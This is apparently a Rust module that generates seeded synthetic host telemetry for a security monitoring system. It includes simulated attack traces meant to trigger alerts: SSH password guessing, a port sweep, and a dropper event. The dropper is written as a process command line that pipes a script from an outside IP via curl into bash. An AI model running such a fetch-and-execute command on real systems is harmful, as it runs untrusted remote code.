//! Made-up traffic of many hosts, the same for the same seed: what agents would see and ship.
//!
//! Of a hundred events sixty are flows, ten DNS, ten TLS or HTTP, ten lines of auth and system
//! logs, ten programs started, with as many fields as our agents fill in. Some batches carry
//! traces of an attack (password guessing, a sweep over ports, a dropper), so that correlations
//! and alerts live. Nothing here is taken from a recording.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use watchpost_model::event::{Auth, Dns, Flow, Http, Log, Process, Side, Tls};
use watchpost_model::id::AgentId;
use watchpost_model::ledger::Stage;
use watchpost_model::wire::{self, Batch};
use watchpost_model::{Event, Timestamp, field as f};

/// Words of names.
const WORDS: [&str; 16] = [
    "amber", "birch", "cobalt", "delta", "ember", "fjord", "garnet", "harbor", "indigo", "juniper", "karst",
    "linden", "meadow", "nimbus", "onyx", "prairie",
];

const PROGRAMS: [(&str, &str); 8] = [
    ("/usr/bin/grep", "grep -c ready /var/lib/app/state"),
    ("/usr/bin/sed", "sed -n 1,20p /etc/hostname"),
    ("/usr/bin/date", "date +%s"),
    ("/usr/bin/python3", "python3 /opt/app/worker.py --queue mail"),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
    ("/usr/bin/git", "git fetch --quiet origin"),
    ("/usr/bin/sort", "sort -u"),
    ("/usr/lib/postfix/sbin/smtpd", "smtpd -n smtp -t inet -u"),
];

const OWNERS: [&str; 5] = [
    "/usr/sbin/nginx",
    "/usr/bin/java",
    "/usr/lib/postgresql/17/bin/postgres",
    "/usr/bin/python3",
    "/usr/sbin/sshd",
];

const BROWSERS: [&str; 3] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/139.0.0.0 Safari/537.36",
    "okhttp/5.1.0",
];

/// A small generator of numbers (splitmix64): good enough to mix traffic, no dependency.
#[derive(Clone, Debug)]
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// 0 to `below` - 1.
    fn roll(&mut self, below: u64) -> u64 {
        self.next() % below.max(1)
    }

    fn port(&mut self) -> u16 {
        u16::try_from(32_768 + self.roll(28_000)).unwrap_or(u16::MAX)
    }

    fn pick<'a, T>(&mut self, of: &'a [T]) -> &'a T {
        let at = usize::try_from(self.next()).unwrap_or(0) % of.len();
        &of[at]
    }

    /// Few are often seen, many seldom.
    fn skewed(&mut self, below: u64) -> u64 {
        let (a, b) = (self.roll(below), self.roll(below));
        a * b / below.max(1)
    }
}

/// One host with its agent.
#[derive(Clone, Debug)]
pub(crate) struct Source {
    pub(crate) agent: AgentId,
    host: String,
    ip: Ipv4Addr,
    dice: Dice,
    sequence: u64,
    next_event: u64,
    time: Timestamp,
}

/// An address with so many choices below the given first number.
fn address(first: u8, number: u64) -> Ipv4Addr {
    let [.., b, c, d] = number.to_be_bytes();
    Ipv4Addr::new(first, b, c, d.max(1))
}

impl Source {
    /// Host number `number`, whose first batch is of `begin`.
    pub(crate) fn new(agent: AgentId, number: u64, begin: Timestamp) -> Self {
        let host = format!("{}-{number:03}", WORDS[usize::try_from(number).unwrap_or(0) % WORDS.len()]);
        let ip = address(10, 0x14_0000 + number);
        Self { agent, host, ip, dice: Dice(number << 32 | 7), sequence: 0, next_event: 1, time: begin }
    }

    /// The next batch, packed: `count` events of the second that follows the last batch.
    pub(crate) fn batch(&mut self, count: u64) -> Vec<u8> {
        let events = self.events(count);
        self.pack(events)
    }

    /// The next batch with these events.
    pub(crate) fn pack(&mut self, events: Vec<Event>) -> Vec<u8> {
        self.sequence += 1;
        let mut batch = Batch {
            epoch: 1,
            sequence: self.sequence,
            first_event: self.next_event,
            host: self.host.clone(),
            events,
            ..Batch::default()
        };
        self.next_event += batch.events.len() as u64;
        for stage in [Stage::Kernel, Stage::Decode, Stage::Lines, Stage::Queue, Stage::Spool, Stage::Wire] {
            batch.ledger.set(stage, self.next_event, 0);
        }
        wire::pack(&batch).unwrap()
    }

    pub(crate) fn events(&mut self, count: u64) -> Vec<Event> {
        let begin = self.time;
        self.time = begin.plus(Duration::from_secs(1));
        let step = Duration::from_secs(1) / u32::try_from(count.max(1)).unwrap_or(1);
        let mut events = Vec::new();
        for nth in 0..count {
            let time = begin.plus(step * u32::try_from(nth).unwrap_or(0));
            events.push(self.everyday(time));
        }
        match self.dice.roll(200) {
            0 => self.guessing(&mut events),
            1 => self.sweep(&mut events),
            2 => self.dropper(&mut events),
            _ => {}
        }
        events
    }

    fn everyday(&mut self, time: Timestamp) -> Event {
        match self.dice.roll(10) {
            0..6 => self.flow(time),
            6 => self.dns(time),
            7 if self.dice.roll(2) == 0 => self.tls(time),
            7 => self.http(time),
            8 => self.line(time),
            _ => self.process(time),
        }
    }

    fn server(&mut self) -> (Ipv4Addr, String) {
        let number = self.dice.skewed(4_000);
        let at = usize::try_from(number).unwrap_or(0);
        let name = format!("{}{}.{}.example", WORDS[at % 16], number, WORDS[at / 16 % 16]);
        (address(93, number * 257), name)
    }

    fn flow(&mut self, time: Timestamp) -> Event {
        let start = time.minus(Duration::from_micros(self.dice.roll(20_000_000)));
        let ((away, name), inbound) = (self.server(), self.dice.roll(4) == 0);
        let client = address(121, self.dice.roll(60_000) * 31);
        let port = *self.dice.pick(&[443, 443, 443, 80, 53, 5432, 123, 25]);
        let (source, destination) = match inbound {
            true => ((client.into(), self.dice.port()), (self.ip.into(), 443)),
            false => ((self.ip.into(), self.dice.port()), (away.into(), port)),
        };
        let udp = !inbound && matches!(port, 53 | 123);
        let bytes = 80 + self.dice.skewed(1 << 20);
        let sent = Side { packets: 1 + bytes / 900, bytes, payload: bytes - 60 };
        let back = bytes * (1 + self.dice.roll(8));
        let received = Side { packets: 1 + back / 1_200, bytes: back, payload: back - 60 };
        let community = format!("1:{:016x}{:011x}=", self.dice.next(), self.dice.next() >> 20);
        let mut event = Event::from(Flow {
            start,
            end: time,
            source,
            destination,
            transport: if udp { "udp" } else { "tcp" },
            protocol_number: if udp { 17 } else { 6 },
            sent,
            received,
            community_id: &community,
            state: "SF",
            reason: "end",
        });
        let r = &mut event.record;
        r.set(f::FLOW_ID, format!("{:016x}", self.dice.next()));
        r.set(f::NETWORK_DIRECTION, if inbound { "inbound" } else { "outbound" });
        r.set(f::CAPTURE_RUNG, "ring");
        r.set(f::CAPTURE_INTERFACE, "eth0");
        if !udp {
            r.set(f::FLOW_SOURCE_FLAGS, "FSPA");
            r.set(f::FLOW_DESTINATION_FLAGS, "FSPA");
            r.set(f::NETWORK_PROTOCOL, "tls");
        }
        if !inbound {
            r.set(f::DESTINATION_DOMAIN, name);
        }
        if self.dice.roll(10) < 7 {
            let program = *self.dice.pick(&OWNERS);
            r.set(f::PROCESS_PID, 300 + self.dice.roll(30_000));
            r.set(f::PROCESS_NAME, program.rsplit('/').next().unwrap_or_default());
            r.set(f::PROCESS_EXECUTABLE, program);
            r.set(f::PROCESS_COMMAND_LINE, format!("{program} --config /etc/app/app.conf"));
            r.set(f::USER_NAME, "www-data");
        }
        event
    }

    fn dns(&mut self, time: Timestamp) -> Event {
        let (away, name) = self.server();
        let answer = self.dice.roll(2) == 0;
        let ttl = u32::try_from(self.dice.roll(3_600)).unwrap_or(60);
        let mut event = Event::from(Dns {
            time,
            source: Some((self.ip.into(), self.dice.port())),
            destination: Some((Ipv4Addr::new(10, 0, 0, 53).into(), 53)),
            transport: "udp",
            id: self.dice.port(),
            answer,
            question: name,
            question_type: "A".into(),
            response_code: if answer { "NOERROR".into() } else { String::new() },
            answers: if answer { vec![("A".into(), away.to_string(), ttl)] } else { Vec::new() },
            resolved: if answer { vec![away.into()] } else { Vec::new() },
        });
        let r = &mut event.record;
        r.set(f::NETWORK_DIRECTION, "internal");
        r.set(f::CAPTURE_RUNG, "ring");
        r.set(f::CAPTURE_INTERFACE, "eth0");
        r.set(f::DNS_HEADER_FLAGS, vec!["RD".to_owned(), "RA".to_owned()]);
        r.set(
            f::NETWORK_COMMUNITY_ID,
            format!("1:{:016x}{:011x}=", self.dice.next(), self.dice.next() >> 20),
        );
        r.set(f::FLOW_ID, format!("{:016x}", self.dice.next()));
        event
    }

    fn tls(&mut self, time: Timestamp) -> Event {
        let (away, name) = self.server();
        let mut event = Event::from(Tls {
            time,
            source: Some((self.ip.into(), self.dice.port())),
            destination: Some((away.into(), 443)),
            server_name: name,
            version: "1.3".into(),
            alpn: vec!["h2".into(), "http/1.1".into()],
        });
        let r = &mut event.record;
        r.set(f::NETWORK_DIRECTION, "outbound");
        r.set(f::TLS_CIPHER, "TLS_AES_128_GCM_SHA256");
        r.set(f::TLS_ESTABLISHED, true);
        r.set(f::TLS_NEXT_PROTOCOL, "h2");
        r.set(f::TLS_JA3, format!("{:032x}", u128::from(self.dice.skewed(60)) * 0x0123_4567_89ab_cdef_0123));
        r.set(f::TLS_JA4, "t13d1516h2_8daaf6152771_02713d6af862");
        r.set(f::FLOW_ID, format!("{:016x}", self.dice.next()));
        event
    }

    fn http(&mut self, time: Timestamp) -> Event {
        let client = address(121, self.dice.roll(60_000) * 31);
        let word = *self.dice.pick(&WORDS);
        let mut event = Event::from(Http {
            time,
            source: Some((client.into(), self.dice.port())),
            destination: Some((self.ip.into(), 80)),
            method: "GET".into(),
            host: "shop.example".into(),
            target: format!("/{word}/{}?page={}&sort=name", self.dice.roll(9_000), self.dice.roll(40)),
            user_agent: (*self.dice.pick(&BROWSERS)).into(),
            status: Some(*self.dice.pick(&[200, 200, 200, 304, 301])),
        });
        let r = &mut event.record;
        r.set(f::NETWORK_DIRECTION, "inbound");
        r.set(f::HTTP_VERSION, "1.1");
        r.set(f::HTTP_MIME, "text/html");
        r.set(f::HTTP_RESPONSE_BYTES, self.dice.skewed(100_000));
        r.set(f::FLOW_ID, format!("{:016x}", self.dice.next()));
        event
    }

    fn line(&mut self, time: Timestamp) -> Event {
        match self.dice.roll(30) {
            0 => {
                // Accounts of this host: one that entered them all within minutes would be an attack.
                let user = format!("{}-{}", self.dice.pick(&WORDS), self.ip.octets()[3]);
                let client = address(10, 0x1e_0000 + u64::from(self.ip.octets()[3]) * 4 + self.dice.roll(4));
                self.login(time, &user, client.into(), true)
            }
            1..15 => self.log(time, "CRON", "(root) CMD (/usr/lib/sysstat/debian-sa1 1 1)"),
            _ => {
                let number = self.dice.roll(100_000);
                self.log(time, "systemd", &format!("app-worker@{number}.service: Deactivated successfully."))
            }
        }
    }

    fn log(&mut self, time: Timestamp, provider: &str, message: &str) -> Event {
        let mut event = Event::from(self.words(time, provider, message));
        self.syslog(&mut event, provider);
        event
    }

    fn words(&mut self, time: Timestamp, provider: &str, message: &str) -> Log {
        let pid = self.dice.roll(30_000);
        let original = format!("Nov 24 10:00:01 {} {provider}[{pid}]: {message}", self.host);
        Log { time, provider: provider.into(), original, message: message.into() }
    }

    fn syslog(&mut self, event: &mut Event, provider: &str) {
        let r = &mut event.record;
        r.set(f::LOG_FILE_PATH, "/var/log/syslog");
        r.set(f::LOG_SOURCE, "syslog");
        r.set(f::LOG_OFFSET, self.dice.roll(1 << 30));
        r.set(f::LOG_SYSLOG_HOST, self.host.as_str());
        r.set(f::LOG_SYSLOG_APP, provider);
        r.set(f::LOG_SYSLOG_PID, self.dice.roll(30_000).to_string());
    }

    /// A login over SSH that went well or did not.
    pub(crate) fn login(&mut self, time: Timestamp, user: &str, from: IpAddr, good: bool) -> Event {
        let port = self.dice.port();
        let word = if good { "Accepted" } else { "Failed" };
        let log =
            self.words(time, "sshd", &format!("{word} password for {user} from {from} port {port} ssh2"));
        let mut event = Event::from(Auth {
            log,
            action: "ssh_login",
            outcome: if good { "success" } else { "failure" },
            user: user.into(),
            target_user: String::new(),
            source_ip: Some(from),
            source_port: Some(port),
            method: "password".into(),
        });
        event.record.set(f::EVENT_TYPE, "start");
        self.syslog(&mut event, "sshd");
        event
    }

    fn process(&mut self, time: Timestamp) -> Event {
        let (executable, command_line) = *self.dice.pick(&PROGRAMS);
        let pid = u32::try_from(400 + self.dice.roll(60_000)).unwrap_or(400);
        self.started(time, pid, executable, format!("{command_line} {}", self.dice.clone().roll(5_000)))
    }

    fn started(&mut self, time: Timestamp, pid: u32, executable: &str, command_line: String) -> Event {
        let mut event = Event::from(Process {
            time,
            pid,
            parent_pid: 390,
            executable: executable.into(),
            command_line,
            working_directory: "/srv/app".into(),
            parent_executable: "/usr/bin/dash".into(),
            parent_command_line: "sh -c /opt/app/run-parts".into(),
            user: "app".into(),
            exit_code: None,
        });
        event.record.set(f::EVENT_PROVIDER, "process");
        event.record.set(f::USER_ID, "999");
        event.record.set(f::PROCESS_PARENT_NAME, "dash");
        event
    }

    /// Forty wrong passwords from one address, among the first events.
    fn guessing(&mut self, events: &mut [Event]) {
        let from = address(203, self.dice.roll(100) * 3);
        for event in events.iter_mut().take(40) {
            *event = self.login(event.time, "root", from.into(), false);
        }
    }

    /// One client knocks at two hundred ports and is refused.
    fn sweep(&mut self, events: &mut [Event]) {
        let from = address(198, self.dice.roll(100) * 5);
        for (port, event) in (1_u16..).zip(events.iter_mut().take(200)) {
            let mut knock = self.flow(event.time);
            let r = &mut knock.record;
            r.set(f::SOURCE_IP, from);
            r.set(f::DESTINATION_IP, self.ip);
            r.set(f::DESTINATION_PORT, port * 7);
            r.set(f::NETWORK_DIRECTION, "inbound");
            r.set(f::FLOW_STATE, "REJ");
            r.set(f::SOURCE_PAYLOAD, 0_u64);
            r.set(f::DESTINATION_PAYLOAD, 0_u64);
            r.remove(f::DESTINATION_DOMAIN);
            *event = knock;
        }
    }

    fn dropper(&mut self, events: &mut [Event]) {
        let Some(event) = events.first_mut() else { return };
        let url = format!("http://{}/a.sh", address(203, self.dice.roll(100)));
        *event = self.started(event.time, 77, "/usr/bin/bash", format!("bash -c curl -s {url} | bash"));
    }
}
